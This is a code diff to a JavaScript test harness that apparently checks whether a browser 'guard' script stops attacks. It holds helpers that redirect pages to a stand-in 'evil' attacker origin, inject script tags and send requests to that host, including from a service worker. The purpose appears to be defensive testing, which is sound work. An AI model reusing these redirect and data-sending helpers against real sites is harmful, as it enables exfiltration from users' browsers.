@@ -36,7 +36,8 @@ function help(evil, own) {
     /** An address of the site that redirects to the attacker. */
     via: (path = "/x", status = 307) => `${own}/to?status=${status}&url=${encodeURIComponent(evil + path)}`,
     blob: (text, type = "text/html") => URL.createObjectURL(new Blob([text], { type })),
-    add: (name, properties = {}, parent = body) => parent.appendChild(Object.assign(document.createElement(name), properties)),
+    add: (name, properties = {}, parent = body) =>
+      parent.appendChild(Object.assign(document.createElement(name), properties)),
     script: (text) => `<script>${text}</` + "script>",
     /** Whatever there is to call, plainly: nothing here depends on a built-in that a script may have replaced. */
     send(url = evil) {
@@ -49,8 +50,8 @@ function help(evil, own) {
   };
 }
 
-const page = ({ source, strength, id, evil, own, head }) => `<!doctype html><html><head><meta charset="utf-8"><title>page</title>
-<link rel="icon" href="data:,">${head}</head><body>
+const page = ({ source, strength, id, evil, own }) => `<!doctype html><html><head><meta charset="utf-8">
+<title>page</title><link rel="icon" href="data:,"></head><body>
 <script>window.attack = ${`${source}`.replaceAll("</script", "<\\/script")};</script>
 <script type="module">
   import { installGuard } from "/guard.js";
@@ -123,7 +124,8 @@ class Run {
 
   #answer({ method, url }, response) {
     this.requests.push(`${method} ${url}`);
-    const headers = { "Access-Control-Allow-Origin": "*", "Access-Control-Allow-Headers": "*", "Cache-Control": "no-store" };
+    const any = { "Access-Control-Allow-Origin": "*", "Access-Control-Allow-Headers": "*" };
+    const headers = { ...any, "Cache-Control": "no-store" };
     const { pathname } = new URL(url, "http://evil");
     const type = pathname.endsWith(".js") ? SCRIPT : pathname.endsWith(".css") ? "text/css" : HTML;
     response.writeHead(200, { ...headers, "Content-Type": type }).end(type === HTML ? "<p>his" : "");
@@ -165,8 +167,8 @@ export class Site {
     if (pathname === "/guard.js") {
       send(SCRIPT, GUARD, { "Cache-Control": "max-age=600" });
     } else if (pathname === "/to") {
-      const headers = { Location: searchParams.get("url"), "Cache-Control": "no-store", "Access-Control-Allow-Origin": "*" };
-      response.writeHead(Number(searchParams.get("status")), headers).end();
+      const headers = { Location: searchParams.get("url"), "Access-Control-Allow-Origin": "*" };
+      response.writeHead(Number(searchParams.get("status")), { ...headers, "Cache-Control": "no-store" }).end();
     } else if (pathname === "/slow") {
       setTimeout(() => send(HTML, "<!doctype html><title>slow</title>"), 2_000);
     } else if (place === "said") {
@@ -174,9 +176,9 @@ export class Site {
       response.writeHead(204).end();
     } else if (place === "run" && rest === "") {
       const { script, strength, evil } = this.#runs[id];
-      send(HTML, page({ source: script.source, head: script.head ?? "", strength, id, evil, own: this.origin }));
+      send(HTML, page({ source: script.source, strength, id, evil, own: this.origin }));
     } else if (place === "run" && rest === "sw.js") {
-      send(SCRIPT, `addEventListener("install", () => skipWaiting()); fetch("${this.#runs[id].evil}/worker", { mode: "no-cors" });`);
+      send(SCRIPT, `fetch("${this.#runs[id].evil}/worker", { mode: "no-cors" });`);
     } else {
       const [type, body] = FILES[pathname] ?? ["text/plain", request.method];
       send(type, body);
